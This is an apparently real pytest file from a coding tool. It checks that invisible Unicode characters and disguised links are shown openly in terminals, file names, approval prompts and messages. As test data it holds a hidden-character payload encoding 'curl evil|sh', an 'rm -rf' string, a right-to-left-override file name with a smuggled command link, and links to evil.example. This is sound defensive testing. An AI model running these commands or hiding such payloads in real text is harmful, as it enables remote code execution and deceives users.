"""What nobody can see is written out wherever a person decides, and one definition says what that is."""

from __future__ import annotations

import re
import sys
import unicodedata
from pathlib import Path
from typing import Any

import pytest
import regex
from hypothesis import given
from hypothesis import strategies as st

from planloom.cli.plain import visible as in_terminal
from planloom.domain.safety.protected import danger, is_secret
from planloom.domain.text.hidden_characters import IGNORABLE, SPACES, hides, in_message, is_hidden, visible
from planloom.tools.terminal_text import plain
from planloom.workspace.paths.names import visible as as_name
from tests.lsp.test_fallback import User, run
from tests.lsp.test_fallback import plain as plain_client
from tests.support.studio import studio

PANEL = Path(__file__).parents[2] / "client-vscode/src/webview/text/hiddenCharacters.ts"
PAYLOAD = "".join(chr(0xE0100 + byte) for byte in b"curl evil|sh")
EVERY = [chr(code) for code in range(sys.maxunicode + 1)]


def test_everything_that_a_display_may_ignore_is_hidden() -> None:
    hidden = regex.compile(r"[\p{Default_Ignorable_Code_Point}\p{C}\p{Zs}\p{Zl}\p{Zp}--[ ]]", regex.V1)
    assert [f"{ord(char):X}" for char in EVERY if hidden.match(char) and not is_hidden(char)] == []


@pytest.mark.slow
def test_the_lists_of_ranges_are_those_of_unicode() -> None:
    for own, theirs in ((IGNORABLE, r"\p{Default_Ignorable_Code_Point}"), (SPACES, r"[\p{Zs}--[ ]]")):
        ours, unicode = re.compile(f"[{own}]"), regex.compile(theirs, regex.V1)
        assert [char for char in EVERY if bool(ours.match(char)) != bool(unicode.match(char))] == []


def test_the_panel_marks_the_same_characters() -> None:
    found = re.search(r"const HIDDEN =\s*/\[(.*)\]/gu;", PANEL.read_text(encoding="utf-8"))
    assert found is not None
    panel = regex.compile(f"[{found[1]}]", regex.V1)
    # The panel draws private and unassigned characters as boxes, which can be seen.
    shared = [char for char in EVERY if unicodedata.category(char) not in ("Co", "Cn")]
    differ = [char for char in shared if is_hidden(char) != bool(panel.match(char))]
    assert [f"{ord(char):X}" for char in differ] == []


@given(st.text())
def test_nothing_hidden_is_left(text: str) -> None:
    shown = visible(text, keep="\n\t")
    assert not any(is_hidden(char) for char in shown.replace("\ufe0f", "") if char not in "\n\t")
    assert not hides(shown) or "\ufe0f" in shown


@pytest.mark.parametrize("text", ["❤️ ok", "1️⃣", "日本語", "e\u0301", "→ ✓ …", "ℹ️"])
def test_what_is_seen_stays_as_it_is(text: str) -> None:
    assert visible(text) == text


def test_a_selector_behind_a_letter_is_hidden() -> None:
    assert visible("a\ufe0fb") == "a<U+FE0F>b" and visible("❤\ufe0f\ufe0f") == "❤\ufe0f<U+FE0F>"


def test_screens_names_and_outputs_share_the_definition() -> None:
    assert in_terminal(f"eval(`{PAYLOAD}`)").count("<U+E01") == len(PAYLOAD)
    assert "<U+E01" in as_name(PAYLOAD) and "<U+E01" in plain(PAYLOAD)
    # `tree` draws with such spaces, and what a program prints is neither approved nor run.
    assert plain("│\u00a0\u00a0 a") == "│   a" and in_terminal("rm\u00a0-rf") == "rm<U+00A0>-rf"


@pytest.mark.parametrize("char", ["\u034f", "\ufe00", "\U000e0100", "\u17b4"])
def test_a_protected_name_is_recognized_behind_what_is_hidden(char: str) -> None:
    assert danger(f"Make{char}file") is not None and is_secret(f".e{char}nv")


@pytest.mark.parametrize("char", ["\u034f", "\u00a0", "\u3000", "\ufe00", "\U000e0100"])
async def test_a_command_with_something_hidden_is_asked_with_a_warning(tmp_path: Path, char: str) -> None:
    async with studio(tmp_path) as room:
        plan = await room.ask(f"run `echo a{char}b`")
        approval = plan.pending.approvals[0]
        assert f"<U+{ord(char):04X}>" in (approval.command or "")
        assert "invisible characters" in (approval.warning or "")
        await room.respond(plan, "deny")


@pytest.fixture
def _no_user_file(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PLANLOOM_CONFIG", str(tmp_path.parent / "none.json"))


@pytest.mark.usefixtures("_no_user_file")
async def test_a_question_by_message_hides_nothing_and_links_nowhere(tmp_path: Path) -> None:
    name = "n\u202etxt[Open](command:x).sh"
    async with plain_client(tmp_path) as client:
        user = User(client, None)
        await run(client, f'1. Create file "{name}" with content "e"\n2. List files', until="attention")
        await client.until(lambda: user.messages)
        (asked,) = user.messages
        assert "<U+202E>" in asked["message"] and "\u202e" not in asked["message"]
        assert "](" not in asked["message"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see [docs](command:evil)", "see [docs] (command:evil)"),
        ("a\nb\u200b", "a\nb<U+200B>"),
        ("list[0] (x)", "list[0] (x)"),
    ],
)
def test_messages_have_no_links_with_other_words(text: str, shown: str) -> None:
    assert in_message(text) == shown


def test_the_answer_of_a_model_has_no_link_with_other_words() -> None:
    from tests.cli.test_screen import STEPS, of, plan, screen

    at, out = screen(terminal=True)
    text = "See [https://docs.python.org/](https://evil.example/?d=1)\u00a0: [b](vscode://x)"
    event: Any = {"type": "answer", "taskId": "s1", "text": text}
    at.event(event, of(plan(STEPS)))
    printed = out.getvalue()
    assert "https://evil.example/?d=1" in printed and "vscode://x" in printed
    assert "\x1b]8" not in printed and "<U+00A0>" not in printed
